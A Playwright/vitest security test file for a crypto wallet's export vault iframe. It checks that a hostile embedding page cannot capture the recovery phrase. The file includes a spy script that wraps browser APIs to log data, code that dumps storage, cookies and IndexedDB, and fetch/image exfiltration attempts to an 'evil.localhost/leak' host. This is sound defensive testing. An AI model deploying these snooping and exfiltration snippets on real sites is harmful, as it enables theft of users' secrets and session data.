import type { Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { en as words } from '../../sites/shared/words/en.ts'
import { bundleScript } from '../vault/bundleScript.ts'
import { startVaultScene, type VaultScene } from '../vault/startVaultScene.ts'
import { organizationId, vaultBundles } from '../vault/vaultBundles.ts'
import { vaultPage } from '../vault/vaultPage.ts'

// T4: the exporting page itself is hostile. It records every message, wraps every global, and reads every store and frame. None
// of that contains the recovery phrase.

/** Words that occur nowhere else, so that the test can search for them everywhere. */
const phrase = 'zoo zoo zoo zoo zoo zoo zoo zoo zoo zoo zoo wrong'
const script = bundleScript(
  `export { openVault } from '../../src/wallets/custody/vault/openVault.ts'`,
  import.meta.dirname,
)

/** What a hostile page does before any of our code runs. */
const spy = `
  globalThis.loot = []
  const { stringify } = JSON
  const keep = (...things) => { for (const thing of things) { try { loot.push(typeof thing === 'string' ? thing : stringify(thing)) } catch {} } }
  const wrap = (owner, name) => {
    const own = owner[name]
    owner[name] = function (...parameters) { keep(name, ...parameters); const result = own.apply(this, parameters); Promise.resolve(result).then((value) => keep(value), () => {}); return result }
  }
  wrap(MessagePort.prototype, 'postMessage'); wrap(window, 'postMessage'); wrap(JSON, 'parse'); wrap(JSON, 'stringify')
  wrap(TextDecoder.prototype, 'decode'); wrap(Storage.prototype, 'setItem'); wrap(console, 'log')
  for (const name of ['decrypt', 'deriveBits', 'importKey', 'exportKey', 'sign']) wrap(crypto.subtle, name)
  const add = MessagePort.prototype.addEventListener
  MessagePort.prototype.addEventListener = function (name, listener, options) {
    return add.call(this, name, (event) => { keep(event.data); listener(event) }, options)
  }
  for (const name of ['message', 'copy', 'paste', 'selectionchange', 'dragstart', 'drop', 'keydown', 'input', 'securitypolicyviolation'])
    addEventListener(name, (event) => keep(name, event.data, event.key, String(getSelection())), true)
  new MutationObserver(() => keep(document.documentElement.outerHTML)).observe(document, { subtree: true, childList: true, attributes: true, characterData: true })
`

let scene: VaultScene
let page: Page
let frame: Frame
const asked: string[] = []
beforeAll(async () => {
  scene = await startVaultScene({ listed: ['shop.localhost'], partitioned: true })
  page = await scene.openPage('shop.localhost', `${spy}\n${script}`)
  page
    .context()
    .on('request', (request) =>
      asked.push(`${request.url()} ${request.postData() ?? ''} ${JSON.stringify(request.headers())}`),
    )
  const publicKey = await page.evaluate(async (url) => {
    const { openVault } = lab as unknown as typeof import('../../src/wallets/custody/vault/openVault.ts')
    globalThis.vault = await openVault({ url, purpose: 'export', container: document.getElementById('place')! })
    return globalThis.vault.publicKey
  }, scene.url)
  frame = scene.frameOf(page)
  const bundle = await vaultBundles.exported(publicKey, phrase)
  await page.evaluate(
    ([bundle, id]) => vault.injectWalletExportBundle(bundle!, { organizationId: id! }),
    [bundle, organizationId],
  )
  await vaultPage.show(page, frame)
  expect(await frame.getByRole('listitem').allInnerTexts()).toEqual(phrase.split(' '))
})
afterAll(() => scene?.close())

function expectClean(texts: readonly string[]): void {
  expect(texts.filter((text) => /\bzoo\b|zoo zoo|\bwrong\b/.test(text))).toEqual([])
}

test('attack: reading messages, calls and everything else that the page can record', async () => {
  const loot = (await page.evaluate('loot')) as string[]
  expect(loot.length).toBeGreaterThan(5)
  expectClean(loot)
})

test('attack: reading the frame', async () => {
  const reached = await page.evaluate(() => {
    const target = document.querySelector('iframe')!.contentWindow!
    const tries = [
      () => target.document.body.innerText,
      () => JSON.stringify(target.location.href),
      () => target.localStorage.length,
      () => Reflect.ownKeys(target).map(String).join(),
      () => document.querySelector('iframe')!.contentDocument?.body.innerText ?? '',
    ]
    return tries.map((attempt) => {
      try {
        return String(attempt())
      } catch (error) {
        return (error as Error).name
      }
    })
  })
  expectClean(reached)
  expect(reached.filter((one) => one === 'SecurityError').length).toBeGreaterThanOrEqual(3)
})

test('attack: storage, of the page and of the vault', async () => {
  const stores = `(async () => {
    const held = [localStorage, sessionStorage].map((store) => JSON.stringify(Object.entries({ ...store })))
    held.push(document.cookie, document.title, window.name, JSON.stringify(history.state))
    for (const { name } of await indexedDB.databases().catch(() => [])) {
      const database = await new Promise((resolve) => { const request = indexedDB.open(name); request.onsuccess = () => resolve(request.result) })
      for (const store of database.objectStoreNames) {
        const all = await new Promise((resolve) => { const request = database.transaction(store).objectStore(store).getAll(); request.onsuccess = () => resolve(request.result) })
        held.push(JSON.stringify(all))
      }
      database.close()
    }
    for (const name of await caches.keys().catch(() => [])) held.push(name)
    return held
  })()`
  for (const where of [page, frame]) expectClean((await where.evaluate(stores)) as string[])
})

test('attack: dragging, selecting and copying out of the frame', async () => {
  const word = frame.getByRole('listitem').last()
  const box = (await word.boundingBox())!
  await page.evaluate(() =>
    document.body.insertAdjacentHTML('beforeend', '<textarea id="trap" rows="3" cols="40"></textarea>'),
  )
  const trap = (await page.locator('#trap').boundingBox())!
  await page.mouse.move(box.x - 80, box.y - 80)
  await page.mouse.down()
  await page.mouse.move(box.x + box.width, box.y + box.height, { steps: 5 })
  await page.mouse.up()
  expect(await frame.evaluate('String(getSelection())')).toBe('')
  await page.keyboard.press('Control+A')
  await page.keyboard.press('Control+C')
  await page.mouse.move(box.x + 10, box.y + 10)
  await page.mouse.down()
  await page.mouse.move(trap.x + 20, trap.y + 20, { steps: 5 })
  await page.mouse.up()
  await page.locator('#trap').click()
  await page.keyboard.press('Control+V')
  expectClean([await page.locator('#trap').inputValue()])
  expectClean((await page.evaluate('loot')) as string[])
})

test('behavior: a click into the page hides the phrase, and the document no longer contains it', async () => {
  await page.locator('h1').click()
  await frame.getByText(words.masked).waitFor()
  expectClean([await frame.content()])
})

test('attack: the vault has no network to send the phrase with', async () => {
  const policy = (await fetch(scene.url.replace('vault.localhost', '127.0.0.1'))).headers.get('content-security-policy')
  expect(policy).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; /)
  const leave = (code: string) =>
    frame.evaluate(`new Promise((resolve) => setTimeout(async () => {
      try { resolve(await (async () => { ${code} })()) } catch (error) { resolve(error.name) }
    }))`)
  const evil = scene.pages.originOf('evil.localhost')
  expect(await leave(`await fetch('${evil}/leak')`)).toBe('TypeError')
  expect(await leave(`await fetch('/leak')`)).toBe('TypeError')
  expect(await leave(`document.body.innerHTML = '<b>'`)).toBe('TypeError')
  expect(await leave(`const i = new Image(); i.src = '${evil}/leak'; await i.decode()`)).toBe('EncodingError')
  expect(scene.pages.requests.filter(({ url }) => url.includes('leak'))).toEqual([])
  expect(scene.visitor.complaints.take(/Content Security Policy|TrustedHTML|Trusted Type/)).toEqual([])
})

test('default: no request of the browser contained the phrase', () => {
  expectClean(asked)
  expectClean(scene.pages.requests.map((request) => JSON.stringify(request)))
})
